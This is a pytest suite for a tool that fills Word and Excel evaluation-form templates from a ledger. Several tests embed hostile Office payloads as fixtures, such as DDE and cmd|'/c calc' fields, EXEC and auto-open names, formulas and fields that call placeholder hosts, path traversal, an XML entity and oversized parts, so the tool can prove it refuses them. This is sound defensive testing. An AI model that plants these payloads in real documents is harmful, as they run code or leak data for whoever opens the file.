"""The unit's own form: filled by its fields, its look kept, and refused where it cannot be trusted or filled."""

import io
import re
import zipfile
from copy import deepcopy
from decimal import Decimal
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.styles import Border, Font, Side
from openpyxl.worksheet.datavalidation import DataValidation

from bounds import bounded
from dangxing import cli
from dangxing.errors import FileProblem
from dangxing.ledger import open_ledger
from dangxing.reports import forms
from dangxing.reports.forms import fields
from dangxing.reports.forms.pieces import names_in, replaced
from forms_factory import ROOT, document, field_tables, scored, xlsx
from ledger_factory import entry

Capture = pytest.CaptureFixture[str]
PAGE = ROOT / "docs" / "forms.md"


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger of the examples."""
    return scored(tmp_path_factory.mktemp("templates"))


def filled(ledger: Path, template: Path, *ids: str) -> list[Path]:
    """The files that a template was filled into."""
    with open_ledger(ledger) as book:
        found = forms.forms_of(book, 2024, forms.Choice(members=ids))
        home = forms.fill_all(forms.open_template(template), found, template.parent)
    return sorted(path for path in home.rglob("*") if path.is_file())


def sheet_of(path: Path) -> Any:
    """The first sheet of a workbook."""
    return openpyxl.load_workbook(path, rich_text=True).worksheets[0]


def test_a_workbook_is_filled_and_keeps_its_look(ledger: Path, tmp_path: Path) -> None:
    """Numbers are numbers in the cell's format, text among text is text; merged cells and print set-up stay."""
    template = tmp_path / "t.xlsx"
    sheet = xlsx(template, {"A1": "{{年度}}年度", "B2": "{{姓名}}", "C2": "{{Total}}", "D2": "{{編號}}"})
    sheet.merge_cells("A1:D1")
    sheet["A1"].font = Font(size=18, bold=True)
    sheet["C2"].number_format = "0.0"
    sheet.print_area = "A1:D9"
    sheet.oddFooter.center.text = "{{name}} &P"
    sheet.parent.save(template)
    [path] = filled(ledger, template, "0202")
    assert path.relative_to(tmp_path).as_posix() == "forms-2024/城建學院黨支部/0202 謝春燕.xlsx"
    made = sheet_of(path)
    assert (made["A1"].value, made["B2"].value, made["D2"].value) == ("2024年度", "謝春燕", "0202")
    assert (made["C2"].value, made["C2"].number_format) == (83.06, "0.0")
    assert (made["A1"].font.size, made["A1"].font.bold) == (18, True)
    assert [each.coord for each in made.merged_cells.ranges] == ["A1:D1"]
    assert made.print_area.endswith("$A$1:$D$9")
    assert made.oddFooter.center.text == "謝春燕 &P"


def test_a_row_of_a_block_is_repeated_and_what_is_below_moves(ledger: Path, tmp_path: Path) -> None:
    """Merged cells, borders, heights, drop-downs and print area follow, as when a person adds rows."""
    template = tmp_path / "t.xlsx"
    sheet = xlsx(template, {"A4": "{{losses.number}}", "B4": "{{失分.條款}}", "D4": "{{losses.points}}", "A6": "意見"})
    for cell in (*sheet[4], *sheet[6]):
        cell.border = Border(bottom=Side(style="thin"))
    sheet.merge_cells("B4:C4")
    sheet.merge_cells("A6:D7")
    sheet.row_dimensions[4].height, sheet.row_dimensions[6].height = 33, 77
    sheet.print_area = "A1:D7"
    choice = DataValidation(type="list", formula1='"是,否"', sqref="A6")
    sheet.add_data_validation(choice)
    sheet.parent.save(template)
    [path] = filled(ledger, template, "0202")
    made = sheet_of(path)
    points = [made.cell(row, 4).value for row in range(4, 16)]
    assert points == sorted(points) == [-4, -3, -3, -2, -2, -1, -1, -1, -1, -0.5, -0.5, -0.5]
    assert [made.cell(row, 1).value for row in range(4, 16)] == list(range(1, 13))
    assert made["A17"].value == "意見"
    merged = {each.coord for each in made.merged_cells.ranges}
    assert merged == {"A17:D18", *(f"B{row}:C{row}" for row in range(4, 16))}
    assert (made.row_dimensions[15].height, made.row_dimensions[17].height) == (33, 77)
    assert {made.cell(row, 1).border.bottom.style for row in range(4, 16)} == {"thin"}
    assert str(made.data_validations.dataValidation[0].sqref) == "A17"
    assert made.print_area.endswith("$A$1:$D$18")


def test_a_block_without_entries_leaves_its_row_blank(ledger: Path, tmp_path: Path) -> None:
    """A vetoed member has no lines."""
    template = tmp_path / "t.xlsx"
    xlsx(template, {"A1": "{{name}}", "A2": "{{lines.clause}}", "A3": "完", "B1": "{{total}}"})
    [path] = filled(ledger, template, "0115")
    made = sheet_of(path)
    assert [made["A1"].value, made["A2"].value, made["A3"].value, made["B1"].value] == ["丁啟帆", None, "完", None]


def test_a_field_in_rich_text_keeps_the_look_of_its_beginning(ledger: Path, tmp_path: Path) -> None:
    """Though it is cut up over several pieces."""
    template = tmp_path / "t.xlsx"
    bold = InlineFont(b=True)
    xlsx(template, {"A1": CellRichText("黨員{", TextBlock(bold, "{姓"), "名}}。", TextBlock(bold, "{{總分}}"))})
    [path] = filled(ledger, template, "0202")
    value = sheet_of(path)["A1"].value
    assert str(value) == "黨員謝春燕。83.06"
    assert [each.text for each in value if isinstance(each, TextBlock)] == ["83.06"]


def test_a_document_is_filled_where_fields_are_split_over_runs(ledger: Path, tmp_path: Path) -> None:
    """The value has the look of the run in which the field begins; a table's row is repeated for each line."""
    template = tmp_path / "t.docx"
    document(
        template,
        "黨員",
        "{{姓",
        "名}}得",
        "{{total}}分",
        rows=(("條款", "分值"), ("{{lines.clause}}", "{{明細.分值}}")),
    )
    [path] = filled(ledger, template, "0202")
    made = docx.Document(str(path))
    [paragraph] = made.paragraphs
    assert paragraph.text == "黨員謝春燕得83.06分"
    assert [run.text for run in paragraph.runs if run.bold] == ["謝春燕"]
    rows = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert len(rows) == 1 + 13
    assert rows[0] == ["條款", "分值"]
    assert rows[1] == ["第六條·1(1)①", "-2"]


def test_a_document_s_header_and_nested_table_are_filled(ledger: Path, tmp_path: Path) -> None:
    """Wherever Word lets a paragraph stand."""
    template = tmp_path / "t.docx"
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "{{支部}}"
    outer = made.add_table(1, 1).cell(0, 0)
    outer.add_table(1, 1).cell(0, 0).text = "{{gains.says}}"
    made.add_paragraph("{{losses.number}}. {{losses.says}}")
    made.save(str(template))
    [path] = filled(ledger, template, "0202")
    found = docx.Document(str(path))
    assert found.sections[0].header.paragraphs[0].text == "城建學院黨支部"
    assert len(found.tables) == 1
    assert found.tables[0].cell(0, 0).tables[0].cell(0, 0).text == "組織參觀學習一次，書記加2分，委員加1分"
    assert [each.text.partition(".")[0] for each in found.paragraphs] == [str(at) for at in range(1, 13)]


@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_a_value_is_text_and_not_read_again(tmp_path: Path, ending: str) -> None:
    """A name that begins with = is no formula; one that looks like a field, or like markup, stays as it is."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"A1": "{{id}}", "A2": "x {{branch}}"})
    else:
        document(template, "{{id}}|x {{branch}}")
    with open_ledger(tmp_path / "l.sqlite", "write") as book:
        book.enter(entry("a.xlsx", ("=1+1", 80), branch="{{name}} <b>&支部"))
        home = forms.fill_all(forms.open_template(template), forms.forms_of(book, None), tmp_path)
    [path] = [path for path in home.rglob("*") if path.is_file()]
    if ending == "xlsx":
        made = sheet_of(path)
        assert (made["A1"].data_type, made["A1"].value, made["A1"].quotePrefix) == ("s", "=1+1", True)
        assert made["A2"].value == "x {{name}} <b>&支部"
    else:
        assert docx.Document(str(path)).paragraphs[0].text == "=1+1|x {{name}} <b>&支部"


@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_the_same_form_is_the_same_bytes(ledger: Path, tmp_path: Path, ending: str) -> None:
    """Nothing in the file tells when it was filled."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"A1": "{{id}}"})
    else:
        document(template, "{{id}}")
    [path] = filled(ledger, template, "0202")
    first = path.read_bytes()
    filled(ledger, template, "0202")
    assert path.read_bytes() == first


def problem(path: Path) -> FileProblem:
    """What is wrong with a template."""
    with pytest.raises(FileProblem) as caught:
        forms.open_template(path)
    return caught.value


@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_unknown_fields_are_named_all_at_once_with_place_and_the_nearest(tmp_path: Path, ending: str) -> None:
    """In Excel the place is the cell, in Word the words around it. What nothing is like has no suggestion."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"B7": "{{評議等弟}}", "C8": "{{姓名}}", "D9": "{{qqqq}}"})
    else:
        document(template, "等次：{{評議等弟}}", rows=(("{{姓名}}", "{{qqqq}}"),))
    found = problem(template)
    first, second = ("Sheet!B7", "Sheet!D9") if ending == "xlsx" else ("等次：{{評議等弟}}", "{{qqqq}}")
    assert (found.code, found.params["count"]) == ("forms.unknown-fields", 2)
    assert found.params["fields"] == f"{{{{評議等弟}}}} ({first}) → {{{{評議等次}}}}; {{{{qqqq}}}} ({second})"


@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_a_template_without_fields_or_with_two_blocks_in_a_row_is_an_error(tmp_path: Path, ending: str) -> None:
    """There is nothing to fill, or no telling how often."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"A1": "姓名"})
        assert problem(template).code == "forms.no-field"
        xlsx(template, {"A1": "{{losses.says}}", "B1": "{{gains.says}}"})
    else:
        document(template, "姓名")
        assert problem(template).code == "forms.no-field"
        document(template, rows=(("{{losses.says}}", "{{gains.says}}"),))
    assert problem(template).code == "forms.two-blocks"


def test_a_formula_that_would_be_out_of_place_is_an_error(tmp_path: Path) -> None:
    """One that refers to rows above the repeated one stays."""
    template = tmp_path / "t.xlsx"
    xlsx(template, {"A1": "{{total}}", "B1": "=A1*2", "A3": "{{lines.points}}"})
    assert forms.open_template(template).losses == ()
    xlsx(template, {"A3": "{{lines.points}}", "A5": "=SUM(A3:A4)"})
    found = problem(template)
    assert (found.code, found.params["place"]) == ("forms.formula-moved", "Sheet!A5")


def repacked(path: Path, extra: dict[str, bytes]) -> None:
    """Adds parts to a package, or puts them in place of its own."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (parts | extra).items():
            archive.writestr(name, content)
    path.write_bytes(buffer.getvalue())


_RELATIONS = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
Target="http://example.org/t.dotm" TargetMode="External"/></Relationships>"""

_PREFIXED = _RELATIONS.replace(b"<Rel", b"<p:Rel").replace(b"</Rel", b"</p:Rel").replace(b"xmlns=", b"xmlns:p=")
_LINK = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9"
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="%b" TargetMode="External"/>
</Relationships>"""
_FIELD = b"""<w:p xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> %b</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
</w:p>"""


_HOSTILE = {
    **{
        f"the field {field.split()[0]}": (_FIELD % field.encode(), "field")
        for field in (
            "QUOTE 68 68 69", 'IF 1=1 "a" "b"', "MACROBUTTON AutoOpen x",
            'LINK Excel.Sheet "c:\\\\x.xls"', 'DATABASE \\d "x"',
            'FILLIN "x"', 'ASK b "x"', "DOCVARIABLE x", '\tincludepicture \t"http://e/x"', "GOTOBUTTON x", "PRINT x",
        )
    },
    "a link to a file": (_FIELD % b'HYPERLINK "file:///c:/x"', "outside"),
    "a link that runs": (_FIELD % b'HYPERLINK "javascript:alert(1)"', "outside"),
    "a link behind switches": (_FIELD % b'HYPERLINK \\l x \\t "_blank" "\\\\\\\\host\\\\share"', "outside"),
    "a field within an alternative": (b"<a><Choice>" + _FIELD % b"DDE a b" + b"</Choice></a>", "field"),
    "a picture from outside": (b'<v:shape xmlns:v="v"><v:imagedata src="http://e/x.png"/></v:shape>', "outside"),
    "a linked picture of a shape": (b'<v:imagedata xmlns:v="v" xmlns:o="o" o:href="http://e/y"/>', "outside"),
    "a filling from another machine": (b'<v:fill xmlns:v="v" src="\\\\host\\x.png"/>', "outside"),
    "a picture in a picture": (b'<svg xmlns="s"><image href="http://e/x"/></svg>', "outside"),
    "a script in a picture": (b'<svg xmlns="s"><script>alert(1)</script></svg>', "fetches"),
    "a click that runs a macro": (b'<a:hlinkClick xmlns:a="a" action="ppaction://macro?name=x"/>', "fetches"),
    "a name that runs by itself": (b'<a><definedName name="_xlnm.Auto_Open">1</definedName></a>', "field"),
    "a name that calls": (b'<a><definedName name="n">EXEC("calc")</definedName></a>', "field"),
    "a list that asks the net": (b'<a><formula1>WEBSERVICE("http://e")</formula1></a>', "field"),
    "a look that asks the net": (b'<a><formula>_xlfn.IMAGE ("http://e")=1</formula></a>', "field"),
    **{
        f"the formula {formula}": (f"<a><f>{formula}</f></a>".encode(), "field")
        for formula in (
            "HYPERLINK(&quot;http://e?&quot;&amp;A1,1)", "_xlfn._xlws.PY(0,0)", "'http://e/[x.xlsx]S'!A1", "[1]S!A1",
            "_xldudf_X.CALL()", "RTD(1,2)", "STOCKHISTORY(1)", "_xlfn.WEBSERVICE (1)",
        )
    },
}  # fmt: skip


@pytest.mark.parametrize("name", _HOSTILE)
@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_what_fetches_sends_or_runs_is_refused(tmp_path: Path, ending: str, name: str) -> None:
    """In whatever part of whichever kind of form it stands."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"A1": "{{id}}"})
    else:
        document(template, "{{id}}")
    content, code = _HOSTILE[name]
    repacked(template, {"customXml/item1.xml": content})
    assert problem(template).code == f"forms.template-{code}"


@pytest.mark.parametrize(
    ("part", "type_", "code"),
    [
        ("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "macros"),
        ("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "macros"),
        ("customUI/customUI.xml", "application/xml", "macros"),
        ("word/stuff.bin", "application/vnd.ms-office.vbaProject", "macros"),
        ("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "macros"),
        (
            "xl/connections.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
            "fetches",
        ),
        ("xl/q1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "fetches"),
        ("xl/e1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "fetches"),
        ("xl/xmlMaps.xml", "application/xml", "fetches"),
        ("word/../../evil.xml", "application/xml", "part"),
    ],
)
def test_parts_that_fetch_or_run_are_refused(tmp_path: Path, part: str, type_: str, code: str) -> None:
    """By their type or name, whatever leads to them."""
    template = tmp_path / "t.docx"
    document(template, "{{id}}")
    with zipfile.ZipFile(template) as archive:
        types = archive.read("[Content_Types].xml")
    entry = f'<Override PartName="/{part}" ContentType="{type_}"/></Types>'.encode()
    repacked(template, {"[Content_Types].xml": types.replace(b"</Types>", entry), part: b"<a/>"})
    assert problem(template).code == f"forms.template-{code}"


@pytest.mark.parametrize(
    ("part", "content", "code"),
    [
        ("xl/vbaProject.bin", b"x", "macros"),
        ("word/_rels/settings.xml.rels", _RELATIONS, "outside"),
        ("customXml/item1.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "part"),
        ("customXml/item2.xml", "<a/>".encode("utf-16"), "part"),
        ("customXml/item4.xml", "<!DOCTYPE a><a/>".encode("utf-16-le"), "part"),
        ("customXml/item5.xml", b"<a>", "part"),
        ("word/_rels/settings.xml.rels", _RELATIONS.replace(b'"External"', b"'EXTERNAL'"), "outside"),
        ("word/_rels/settings.xml.rels", _RELATIONS.replace(b'TargetMode="External"', b""), "outside"),
        ("word/_rels/settings.xml.rels", _PREFIXED, "outside"),
        ("word/_rels/document2.xml.rels", _LINK % b"file://server/share/a.docx", "outside"),
        ("word/x.blob", b"x", "untyped"),
        ("customXml/item6.xml", _FIELD % b"DDEAUTO c:\\\\a", "field"),
        ("customXml/item7.xml", _FIELD % b'INCLUDETEXT "http://example.org"', "field"),
        ("customXml/item8.xml", _FIELD % b"DD</w:instrText></w:r><w:r><w:instrText>E a b", "field"),
        ("customXml/item9.xml", b'<w:a xmlns:w="w"><w:fldSimple w:instr="includepicture a"/></w:a>', "field"),
        ("customXml/item10.xml", b"<a><f>cmd|'/c calc'!A0</f></a>", "field"),
        ("customXml/item11.xml", b'<w:a xmlns:w="w"><w:altChunk/></w:a>', "fetches"),
        ("customXml/item12.xml", b"<a>" + b"<b/>" * 2_100_000 + b"</a>", "damaged"),
        ("customXml/item3.xml", b"<a>" + b" " * 20_000_000 + b"</a>", "damaged"),
    ],
)
@pytest.mark.parametrize("ending", ["xlsx", "docx"])
def test_a_hostile_template_is_refused(tmp_path: Path, ending: str, part: str, content: bytes, code: str) -> None:
    """Macros, links that would be fetched, entities, another encoding, parts that unpack to far too much."""
    template = tmp_path / f"t.{ending}"
    if ending == "xlsx":
        xlsx(template, {"A1": "{{id}}"})
    else:
        document(template, "{{id}}")
    repacked(template, {part: content})
    assert problem(template).code == f"forms.template-{code}"


def test_a_sheet_that_reaches_too_far_takes_no_memory(tmp_path: Path) -> None:
    """One far cell costs nothing; merged cells without end are refused before the library makes them."""
    template = tmp_path / "t.xlsx"
    xlsx(template, {"A1": "{{id}}", "XFD1048576": "x", "A2": "{{losses.points}}"})
    assert forms.open_template(template).losses == ()
    sheet = xlsx(template, {"A1": "{{id}}"})
    sheet.merged_cells.add("A2:XFD1048576")
    sheet.parent.save(template)
    assert problem(template).code == "forms.template-damaged"


def test_a_form_of_many_blanks_is_filled_in_time(ledger: Path, tmp_path: Path) -> None:
    """Cells that only carry a border are gone through once a block, not once an entry; too many are refused."""
    template = tmp_path / "t.xlsx"
    sheet = xlsx(
        template, {"A1": "{{id}}", "A3": "{{lines.clause}}", "A5": "{{losses.clause}}", "A7": "{{gains.says}}"}
    )
    line = Border(left=Side(style="thin"))
    for row in range(1, 401):
        for column in range(1, 101):
            sheet.cell(row, column).border = line
    sheet.parent.save(template)
    with bounded("forty thousand cells"):
        [made] = filled(ledger, template, "0103")
    assert sheet_of(made)["A1"].value == "0103"
    for column in range(101, 130):
        for row in range(1, 401):
            sheet.cell(row, column).border = line
    sheet.parent.save(template)
    assert problem(template).code == "forms.template-cells"


def test_what_is_no_form_is_refused(tmp_path: Path) -> None:
    """Missing, of another kind, not a package, a package of something else."""
    assert problem(tmp_path / "none.docx").code == "forms.template-missing"
    assert problem(tmp_path / "form.doc").code == "forms.template-kind"
    for name in ("t.docx", "t.xlsx"):
        (tmp_path / name).write_bytes(b"\xd0\xcf\x11\xe0 no package")
        assert problem(tmp_path / name).code == "forms.template-damaged"
    xlsx(tmp_path / "x.xlsx", {"A1": "{{id}}"})
    (tmp_path / "x.xlsx").rename(tmp_path / "x.docx")
    assert problem(tmp_path / "x.docx").code == "forms.template-damaged"


def test_pictures_of_a_sheet_are_told_of(ledger: Path, tmp_path: Path, capsys: Capture) -> None:
    """They are not in the filled form, which the user must know."""
    template = tmp_path / "t.xlsx"
    xlsx(template, {"A1": "{{id}}"})
    with zipfile.ZipFile(template) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
    repacked(template, {"xl/media/image1.png": b"\x89PNG", "[Content_Types].xml": types})
    arguments = ["--template", str(template), "--ledger", str(ledger), "--out", str(tmp_path), "--member", "0202"]
    assert cli.main(["forms", *arguments, "--lang", "en"]) == 0
    out, err = capsys.readouterr()
    assert "pictures" in err
    assert "forms-2024" in out


def test_what_a_person_has_typed_is_not_overwritten(ledger: Path, tmp_path: Path, capsys: Capture) -> None:
    """A form that is there already stays, unless it is said that it may go; so do our own."""
    template = tmp_path / "t.xlsx"
    xlsx(template, {"A1": "{{id}}"})
    for own in ([], ["--template", str(template)]):
        arguments = ["forms", *own, "--ledger", str(ledger), "--out", str(tmp_path / "out"), "--member", "0202"]
        assert cli.main(arguments) == 0
        [path] = [path for path in (tmp_path / "out").rglob("*.xlsx") if path.read_bytes() != b"typed"]
        path.write_bytes(b"typed")
        capsys.readouterr()
        assert cli.main(arguments) == 2
        assert "error already-there: " in capsys.readouterr().err
        assert path.read_bytes() == b"typed"
        assert cli.main([*arguments, "--force"]) == 0
        assert path.read_bytes() != b"typed"
        path.write_bytes(b"typed")


def test_twenty_thousand_paragraphs_are_filled_in_time(ledger: Path, tmp_path: Path) -> None:
    """In one row of a table, each with a field, and one with as many pieces: nothing is gone through for each."""
    template = tmp_path / "t.docx"
    made = docx.Document()
    cell = made.add_table(1, 1).rows[0].cells[0]
    for _ in range(40):
        cell.paragraphs[0].add_run("{{na")
        cell.paragraphs[0].add_run("me}} ")
    body = cell.paragraphs[0]._p
    for _ in range(20_000):
        body.addnext(deepcopy(body) if _ % 1000 == 0 else _paragraph())
    made.save(str(template))
    with bounded("twenty thousand paragraphs", seconds=20):
        [path] = filled(ledger, template, "0202")
    assert docx.Document(str(path)).tables[0].cell(0, 0).text.count("0202") >= 19_000


def _paragraph() -> Any:
    return parse_xml(f"<w:p {nsdecls('w')}><w:r><w:t>{{{{id}}}}</w:t></w:r></w:p>")


def test_pieces_are_replaced_wherever_a_field_begins() -> None:
    """Empty pieces, several fields in one, a field over many, braces that are none."""
    assert replaced(["a{", "", "{x", "}}b{{y}}", "{{", "z}"], str.upper) == ["aX", "", "", "bY", "{{", "z}"]
    assert names_in("{{a}} {b} {{ c }}") == ["a", " c "]


def test_every_field_is_found_by_every_name(ledger: Path) -> None:
    """In English and both scripts; no name stands for two fields; each has a value or none for every member."""
    lexicon = fields.Lexicon()
    seen: dict[str, str] = {}
    for found, called in fields.names():
        for name in called.values():
            assert lexicon.get(f" {name.upper()} ") == found
            assert seen.setdefault(name, found.name) == found.name
    with open_ledger(ledger) as book:
        for form in forms.forms_of(book, 2024):
            for found, _ in fields.names():
                values = (
                    [fields.value_of(found, form)]
                    if found.block is None
                    else [row[found.name] for row in fields.rows_of(found.block, form)]
                )
                assert all(value is None or isinstance(value, str | int | Decimal) for value in values)


def test_the_page_lists_every_field() -> None:
    """The tables of docs/forms.md are those of the code."""
    found = re.search("<!-- fields -->\n(.*)\n<!-- end of fields -->", PAGE.read_text(encoding="utf-8"), re.DOTALL)
    assert found is not None
    assert found[1] == field_tables()
